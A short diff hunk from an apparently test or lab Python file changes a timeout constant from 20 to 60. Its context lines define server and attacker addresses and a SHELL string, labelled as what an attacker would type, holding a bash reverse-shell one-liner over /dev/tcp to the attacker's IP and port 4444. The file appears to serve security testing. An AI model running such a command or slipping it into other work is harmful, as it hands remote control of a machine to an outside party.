@@ -18,7 +18,7 @@ SERVER = ("10.20.0.2", 8080)
 ATTACKER = ("10.20.0.66", 4444)
 
 # Long enough for a slow machine; waited for only where nobody comes.
-PATIENCE = 20
+PATIENCE = 60
 
 # What an attacker would type: bash, wired to the attacker's machine.
 SHELL = f"exec bash 0<>/dev/tcp/{ATTACKER[0]}/{ATTACKER[1]} 1>&0 2>&1"
